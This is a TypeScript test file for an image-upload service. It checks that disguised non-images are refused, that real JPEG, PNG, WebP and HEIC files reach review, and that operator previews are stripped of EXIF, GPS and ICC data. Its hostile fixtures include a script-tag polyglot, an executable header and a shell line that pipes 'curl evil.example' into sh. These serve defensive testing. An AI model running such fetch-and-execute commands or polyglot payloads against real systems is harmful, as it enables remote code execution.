// Verification decodes the bytes and makes private review previews (issue 13, parts 1 and 2): every upload that magic bytes alone let
// through as an image now ends in verification_failed with a reason, and real images of each
// decodable type reach awaiting_review with their dimensions on the row.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jpegMagicThenRandom, pngDeclaring, realJpeg, realPng, realWebp } from '../../bench/lib/images';
import { apiKeyActor, bearerActor, type TestCredential } from '../helpers/auth';
import { stageAndVerify } from '../helpers/intake';
import { embeddedMetadata, endMetadataReader } from '../helpers/metadata';
import { eventually, startTestStack, type TestStack } from '../helpers/stack';

let stack: TestStack;
let partner: TestCredential;
beforeAll(async () => {
  stack = await startTestStack();
  partner = await apiKeyActor(stack, { permissions: ['portfolio_intake:stage'] });
});
afterAll(async () => {
  await endMetadataReader();
  await stack?.stop();
});

const JPEG_MAGIC = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
/** HEVC-coded HEIC, 240 x 160 (test/fixtures/images/make-heic.py: sharp cannot encode HEVC). */
const HEIC = fs.readFileSync(path.join(import.meta.dirname, '../fixtures/images/gradient.heic'));
const verify = (bytes: Buffer, mimeType: string) => stageAndVerify(stack, partner, bytes, { mimeType });

describe('verification decodes what it is given', () => {
  // Each of these was verified, approved and promoted when only magic bytes, size and hash were checked.
  const hostile: [string, Buffer, string][] = [
    ['a JPEG header followed by <html><script>', Buffer.concat([JPEG_MAGIC, Buffer.from('<html><script>alert(1)</script></html>')]), 'image/jpeg'],
    ['a 12-byte file that is only a WebP header', Buffer.from('RIFF\x04\x00\x00\x00WEBP', 'latin1'), 'image/webp'],
    ['a JPEG header followed by MZ', Buffer.concat([JPEG_MAGIC, Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(600)]), 'image/jpeg'],
    ['a HEIC ftyp header followed by a script', Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')]), 'image/heic'],
    ['a PNG declaring 2147483647 x 2147483647 pixels', pngDeclaring(2147483647, 2147483647), 'image/png'],
  ];
  it.each(hostile)('%s ends in verification_failed', async (_name, bytes, mimeType) => {
    const { done } = await verify(bytes, mimeType);
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', reviewStatus: 'not_reviewed' });
    expect(done.body.data.failureReason).toMatch(/^(undecodable|magic_bytes_mismatch|dimensions_exceeded|type_mismatch)$/);
  });

  it('a 3-byte ff d8 ff is refused', async () => {
    const { done } = await verify(Buffer.from([0xff, 0xd8, 0xff]), 'image/jpeg');
    expect(done.body.data.intakeStatus).toBe('verification_failed');
  });

  it('JPEG magic bytes followed by random bytes: undecodable', async () => {
    const { done } = await verify(jpegMagicThenRandom(20_000), 'image/jpeg');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'undecodable' });
  });

  it('a PNG whose header claims 100000 x 100000 pixels: dimensions_exceeded, refused from the header', async () => {
    const { done } = await verify(pngDeclaring(100_000, 100_000), 'image/png');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'dimensions_exceeded' });
  });

  it('a real PNG declared as image/jpeg: type_mismatch', async () => {
    const { done } = await verify(await realPng(40, 30), 'image/jpeg');
    expect(done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'type_mismatch' });
  });

  it('a valid JPEG, PNG, WebP and HEIC each reach awaiting_review with format and dimensions on the row', async () => {
    const exif = await sharp({ create: { width: 120, height: 80, channels: 3, background: '#246' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const cases: [Buffer, string, Record<string, unknown>][] = [
      [realJpeg(4096), 'image/jpeg', { imageFormat: 'jpeg', imageFrames: 1 }],
      [exif, 'image/jpeg', { imageFormat: 'jpeg', imageWidth: 120, imageHeight: 80, imageOrientation: 6 }],
      [await realPng(33, 21), 'image/png', { imageFormat: 'png', imageWidth: 33, imageHeight: 21, imageFrames: 1 }],
      [await realWebp(50, 40), 'image/webp', { imageFormat: 'webp', imageWidth: 50, imageHeight: 40, imageFrames: 1 }],
      [HEIC, 'image/heic', { imageFormat: 'heif', imageWidth: 240, imageHeight: 160, imageFrames: 1 }],
    ];
    for (const [bytes, mimeType, facts] of cases) {
      const { id, done } = await verify(bytes, mimeType);
      expect(done.body.data.intakeStatus, mimeType).toBe('awaiting_review');
      const [row] = await stack.sql`
        select image_format, image_width, image_height, image_frames, image_orientation from submissions where submission_id = ${id}`;
      expect(row).toMatchObject(facts);
    }
  });
});

describe('HEIC', () => {
  it('is decoded pixel by pixel: a valid one gets upright previews of its pixels; damaged coded data is undecodable', async () => {
    const operator = await bearerActor(stack, { permissions: ['portfolio_intake:review'], operator: true });
    const { id, done } = await verify(HEIC, 'image/heic');
    expect(done.body.data.intakeStatus).toBe('awaiting_review');
    const preview = await eventually(async () => {
      const r = await fetch(`${stack.url}/api/private/portfolio-intake/v1/submissions/${id}/preview?size=large`, { headers: operator.headers });
      return r.status === 200 && Buffer.from(await r.arrayBuffer());
    }, 10_000, 50);
    const { data, info } = await sharp(preview).raw().toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([240, 160]);
    // The fixture is a gradient: red grows with x (lossy coding keeps it within a few levels).
    const red = (x: number, y: number) => data[(y * info.width + x) * info.channels]!;
    expect(red(200, 80) - red(20, 80)).toBeGreaterThan(150);

    // The same container with its coded image data cut short: the header parses, the pixels do not.
    const truncated = HEIC.subarray(0, HEIC.length - 400);
    const cut = await verify(truncated, 'image/heic');
    expect(cut.done.body.data).toMatchObject({ intakeStatus: 'verification_failed', failureReason: 'undecodable' });
  });
});

describe('private review previews', () => {
  it('an operator gets an upright WebP thumbnail and preview without EXIF, GPS, XMP or ICC; nobody else does', async () => {
    const operator = await bearerActor(stack, { permissions: ['portfolio_intake:review'], operator: true });
    // A phone photo: sideways pixels with orientation 6, GPS coordinates, an ICC profile.
    const photo = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#468' } })
      .withExif({ IFD0: { Make: 'PhoneCo', Model: 'P1' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 300/100' } })
      .withMetadata({ orientation: 6, icc: 'p3' })
      .jpeg()
      .toBuffer();
    const source = await sharp(photo).metadata();
    expect(source.orientation).toBe(6);
    // The reader does see what the phone recorded (so an empty answer below means something).
    expect(await embeddedMetadata(photo)).toEqual(expect.arrayContaining(['EXIF:Make', 'EXIF:GPSLatitude']));
    expect((await embeddedMetadata(photo)).some((k) => k.startsWith('ICC_Profile:'))).toBe(true);
    const { id, done } = await verify(photo, 'image/jpeg');
    expect(done.body.data.intakeStatus).toBe('awaiting_review');

    const url = (size: string) => `${stack.url}/api/private/portfolio-intake/v1/submissions/${id}/preview?size=${size}`;
    // Asked for at once, right after upload-complete answered: the route waits for the previews the
    // worker writes just after the verdict, rather than answering 404.
    const fetchPreview = async (size: string) => {
      const r = await fetch(url(size), { headers: operator.headers });
      expect(r.status, size).toBe(200);
      return r;
    };
    for (const [size, edge] of [['thumb', 320], ['large', 1600]] as const) {
      const res = await fetchPreview(size);
      expect(res.headers.get('content-type')).toBe('image/webp');
      expect(res.headers.get('cache-control')).toBe('private, no-store');
      const bytes = Buffer.from(await res.arrayBuffer());
      const meta = await sharp(bytes).metadata();
      expect(meta.format).toBe('webp');
      // Turned upright (300 x 200 with orientation 6 shows as 200 x 300), never enlarged.
      expect(meta.height).toBeGreaterThan(meta.width!);
      expect(Math.max(meta.width!, meta.height!)).toBeLessThanOrEqual(Math.min(edge, 300));
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(bytes.toString('latin1')).not.toMatch(/PhoneCo|GPS/);
      expect(await embeddedMetadata(bytes), size).toEqual([]);
    }

    expect((await fetch(url('thumb'))).status).toBe(401);
    expect((await fetch(url('thumb'), { headers: partner.headers })).status).toBe(403);
    const unknown = await fetch(`${stack.url}/api/private/portfolio-intake/v1/submissions/sub_nothing_here/preview`, { headers: operator.headers });
    expect(unknown.status).toBe(404);

    // The private draft stays the original: exactly the verified bytes, EXIF and all, never the preview.
    const approved = await fetch(`${stack.url}/api/private/portfolio-intake/v1/submissions/${id}/approve`, {
      method: 'POST',
      headers: { ...operator.headers, 'content-type': 'application/json' },
      body: JSON.stringify({ reviewNotes: 'Rights attested.' }),
    });
    expect(approved.status).toBe(200);
    const [doc] = await stack.sql`
      select m.sha256, m.object_key, s.verified_sha256 from media_documents m join submissions s using (submission_id) where m.submission_id = ${id}`;
    expect(doc!.sha256).toBe(crypto.createHash('sha256').update(photo).digest('hex'));
    expect(doc!.sha256).toBe(doc!.verifiedSha256);
    expect(fs.readFileSync(path.join(stack.dataDir, 'objects', 'media', doc!.objectKey)).equals(photo)).toBe(true);

    const failed = await verify(jpegMagicThenRandom(4096), 'image/jpeg');
    const none = await fetch(`${stack.url}/api/private/portfolio-intake/v1/submissions/${failed.id}/preview`, { headers: operator.headers });
    expect(none.status).toBe(404);
  });
});
